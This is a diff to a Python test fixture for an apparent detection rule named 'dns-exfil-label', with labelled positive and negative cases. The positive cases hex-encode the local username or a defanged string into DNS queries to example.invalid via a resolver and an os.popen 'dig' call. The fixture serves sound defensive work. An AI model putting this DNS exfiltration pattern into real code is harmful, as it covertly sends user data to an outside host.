@@ -3,6 +3,9 @@ import base64
 import getpass
 import os
 import socket
+import subprocess
+
+import dns.resolver
 
 user_hex = getpass.getuser().encode().hex()
 # ruleid: dns-exfil-label
@@ -23,3 +26,17 @@ socket.gethostbyname("example.invalid")
 digest = b"abc".hex()
 # ok: dns-exfil-label
 socket.gethostbyname(socket.gethostname())
+
+resolver = dns.resolver.Resolver()
+chunk = base64.b16encode(b"defanged").decode()
+# ruleid: dns-exfil-label
+resolver.resolve(chunk + ".t.example.invalid", "TXT")
+
+legacy = getpass.getuser().encode("hex")
+# ruleid: dns-exfil-label
+os.popen("dig " + legacy + ".example.invalid")
+
+# ok: dns-exfil-label
+subprocess.run(["git", "tag", user_hex])
+# ok: dns-exfil-label
+resolver.resolve("example.invalid", "TXT")
